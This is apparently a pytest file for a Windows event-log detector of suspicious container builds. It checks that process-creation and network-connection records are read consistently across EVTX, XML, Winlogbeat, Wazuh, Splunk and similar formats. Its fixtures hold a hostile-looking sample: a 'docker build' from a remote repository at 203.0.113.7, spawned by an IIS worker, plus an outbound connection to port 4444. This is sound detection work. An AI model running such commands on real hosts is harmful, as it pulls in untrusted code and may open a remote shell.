"""Windows' record of a program's start is read in each shape that tools and SIEMs give it."""

from __future__ import annotations

from typing import Any

import pytest

from t1612core import AUTO, SCHEMAS, Detector, UnrecognisedError
from t1612core.telemetry.xml import event_number

DETECTORS = (Detector(schema=AUTO), Detector(schema=SCHEMAS["windows_security"]))
DETECTOR = DETECTORS[0]
LINE = "docker build -t x http://203.0.113.7/x.git"
TIME = "2026-03-02T08:06:41Z"
WRITER = "Microsoft-Windows-Security-Auditing"
DATA = {
    "SubjectUserName": "app",
    "NewProcessId": "0x1a4",
    "NewProcessName": "C:\\app\\docker.exe",
    "ProcessId": "0x7c",
    "CommandLine": LINE,
    "TargetUserName": "-",
    "ParentProcessName": "C:\\x\\w3wp.exe",
}
CONNECTION = {
    "ProcessID": "7",
    "Application": "\\device\\harddiskvolume2\\x\\dockerd.exe",
    "Direction": "%%14593",
    "DestAddress": "203.0.113.7",
    "DestPort": "4444",
}
CLASSIC = {
    "New_Process_Name": DATA["NewProcessName"],
    "Process_Command_Line": LINE,
    "Creator_Process_Name": DATA["ParentProcessName"],
    "Account_Name": ["app", "-"],
}
SHOWN = "\r\n".join(
    (
        "A new process has been created.",
        "Creator Subject:",
        "\tAccount Name:\t\tapp",
        "Target Subject:",
        "\tAccount Name:\t\t-",
        "Process Information:",
        f"\tNew Process Name:\t{DATA['NewProcessName']}",
        f"\tCreator Process Name:\t{DATA['ParentProcessName']}",
        f"\tProcess Command Line:\t{LINE}",
    )
)


def evtx(data: Any, number: Any = 4688, **more: Any) -> dict[str, Any]:
    system = {
        "Provider": {"#attributes": {"Name": WRITER}},
        "EventID": number,
        "Channel": "Security",
        "Computer": "h",
        "TimeCreated": {"#attributes": {"SystemTime": TIME}},
    }
    return {"Event": {"System": {**system, **more}, "EventData": data}}


def xml(data: dict[str, str], number: str = "4688") -> str:
    told = "".join(f"<Data Name='{name}'>{value}</Data>" for name, value in data.items())
    return (
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
        f"<Provider Name='{WRITER}'/><EventID>{number}</EventID>"
        f"<TimeCreated SystemTime='{TIME}'/><Channel>Security</Channel><Computer>h</Computer>"
        f"</System><EventData>{told}</EventData></Event>"
    )


WINLOG: dict[str, Any] = {
    "@timestamp": TIME,
    "winlog": {
        "channel": "Security",
        "event_id": "4688",
        "computer_name": "h",
        "event_data": DATA,
    },
}
ECS = {
    "event": {"category": ["process"], "type": ["start"], "code": "4688"},
    "process": {"name": "docker.exe", "command_line": LINE, "parent": {"name": "w3wp.exe"}},
    "user": {"name": "app"},
}
SHAPES: dict[str, Any] = {
    "plain": evtx(DATA),
    "the number with attributes": evtx(DATA, {"#text": "4688", "#attributes": {"Q": "0"}}),
    "a list": evtx({"Data": [{"@Name": n, "#text": v} for n, v in DATA.items()]}),
    "xmltodict": evtx(DATA, Channel=None, Provider={"@Name": WRITER}),
    "XML": {"_raw": xml(DATA)},
    "XML behind syslog": {"_raw": f"<14>Mar  2 08:06:41 h x: {xml(DATA)}"},
    "Winlogbeat": WINLOG,
    "Winlogbeat of ECS": {**WINLOG, **ECS},
    "Winlogbeat's module, without the data": {
        **WINLOG,
        **ECS,
        "winlog": {"channel": "Security", "event_id": 4688, "computer_name": "h"},
    },
    "Wazuh": {
        "data": {
            "win": {
                "system": {
                    **{"channel": "Security", "eventID": "4688", "computer": "h"},
                    "systemTime": TIME,
                },
                "eventdata": {f"{n[0].lower()}{n[1:]}": v for n, v in DATA.items()},
            }
        }
    },
    "NXLog": {
        **{"EventTime": TIME, "Hostname": "h", "EventID": 4688, "Channel": "Security"},
        "SourceName": WRITER,
        **DATA,
    },
    "SecurityEvent": {
        **{"TimeGenerated": TIME, "Computer": "h", "Account": "CORP\\app", "EventID": 4688},
        "Type": "SecurityEvent",
        **{**DATA, "SubjectUserName": ""},
    },
    "Splunk": {"_time": TIME, "sourcetype": "XmlWinEventLog", "host": "h", "EventCode": 4688}
    | DATA,
    "Splunk of old": {"_time": TIME, "sourcetype": "WinEventLog", "host": "h", "EventCode": 4688}
    | CLASSIC,
    "Get-WinEvent": {
        **{"Id": 4688, "ProviderName": WRITER, "MachineName": "h", "TimeCreated": TIME},
        "Message": SHOWN,
    },
}


@pytest.mark.parametrize("name", SHAPES)
def test_each_shape_shows_what_the_plain_one_does(name: str) -> None:
    expected = DETECTOR.score(SHAPES["plain"])

    assert expected is not None
    assert {"remote_context_ip"} <= {*expected.signals} or expected.score >= 4
    for detector in DETECTORS:
        finding = detector.score(SHAPES[name])
        assert finding is not None
        told = {*expected.signals}
        if name == "Winlogbeat's module, without the data":  # it has no path
            told = {*finding.signals} & told
        assert told == {*finding.signals}
        assert (LINE, "h", "app") == (finding.detail, finding.host, finding.account)
        assert "2026-03-02 08:06:41" == f"{finding.time:%Y-%m-%d %H:%M:%S}"


@pytest.mark.parametrize(
    "event",
    [
        evtx(CONNECTION, 5156),
        {"_raw": xml(CONNECTION, "5156")},
        {**WINLOG, "winlog": {**WINLOG["winlog"], "event_id": 5156, "event_data": CONNECTION}},
        {"EventID": 5156, "Computer": "h", "Channel": "Security", **CONNECTION},
        {
            **{"Id": 5156, "ProviderName": WRITER, "MachineName": "h"},
            "Message": "\tApplication Name:\t\\x\\dockerd.exe\r\n\tDirection:\tOutbound\r\n"
            "\tDestination Address:\t203.0.113.7\r\n\tDestination Port:\t4444\r\n",
        },
    ],
    ids=str,
)
def test_a_connection_is_read(event: dict[str, Any]) -> None:
    finding = DETECTOR.score(event)

    assert finding is not None
    assert ("network", "203.0.113.7 port 4444") == (finding.kind, finding.detail)


def test_one_that_came_in_is_none_of_an_engines() -> None:
    told = {**CONNECTION, "Direction": "%%14592"}

    assert "network" == DETECTOR.kind_of(evtx(told, 5156))
    assert DETECTOR.score(evtx(told, 5156)) is None


@pytest.mark.parametrize(
    "event",
    [
        evtx({"SubjectUserName": "x"}, 4624),
        evtx({"SubjectUserName": "x"}, {"#text": "4624"}),
        evtx({"ProcessName": "x"}, "4689"),
        {"_raw": xml({"a": "b"}, "4624")},
        {**WINLOG, "winlog": {"channel": "Security", "event_id": "4624"}},
        {"EventID": 4624, "Channel": "Security", "TargetUserName": "x"},
        {"Type": "SecurityEvent", "EventID": 4624, "Account": "x"},
    ],
    ids=str,
)
def test_other_events_of_the_log_are_known(event: dict[str, Any]) -> None:
    assert DETECTOR.kind_of(event) is None


@pytest.mark.parametrize(
    "event", [evtx({}), evtx("x"), evtx(DATA, "x"), evtx({"Data": "x"}), evtx({}, 5156)], ids=str
)
def test_what_cannot_be_read_is_not_called_clean(event: dict[str, Any]) -> None:
    with pytest.raises(UnrecognisedError):
        DETECTOR.kind_of(event)


def test_words_of_another_log_in_a_line_hide_no_event() -> None:
    for words in ("sysmon", WRITER, "CEF:0|a"):
        told = {**DATA, "CommandLine": f"{LINE} # {words}"}
        found = DETECTOR.score({"_raw": xml(told)})
        assert found is not None
        own = xml({"Image": "docker", "CommandLine": told["CommandLine"]}, "1")
        found = DETECTOR.score({"_raw": own.replace(f"'{WRITER}'", "'Microsoft-Windows-Sysmon'")})
        assert found is not None


@pytest.mark.parametrize(
    ("value", "number"),
    [("01", "1"), (" 4688\n", "4688"), (1, 1), ("x", "x"), ("0" * 11, "0" * 11), ("", "")],
)
def test_a_number_is_read_without_zeros(value: Any, number: Any) -> None:
    assert number == event_number(value)
